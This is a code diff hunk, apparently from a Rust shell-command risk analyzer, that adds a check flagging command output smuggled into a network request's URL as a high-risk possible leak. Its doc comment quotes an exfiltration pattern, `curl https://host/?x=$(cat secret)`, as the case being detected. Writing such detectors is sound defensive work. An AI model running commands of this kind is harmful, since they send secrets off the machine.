@@ -233,6 +233,16 @@ impl Engine<'_> {
 
     /// `curl https://host/?x=$(cat secret)`: what isn't known leaves with the request.
     pub(super) fn secret_in_url(&mut self, rest: &[Arg]) {
+        if let Some(a) = rest.iter().find(|a| a.computed && !a.text.contains("://")) {
+            self.emit_raw(
+                EffectKind::Network,
+                None,
+                Certainty::Possible,
+                a.span,
+                RiskLevel::High,
+                "what a command printed leaves with the request",
+            );
+        }
         let leaks = rest.iter().any(|a| {
             a.text.contains("://")
                 && a.text
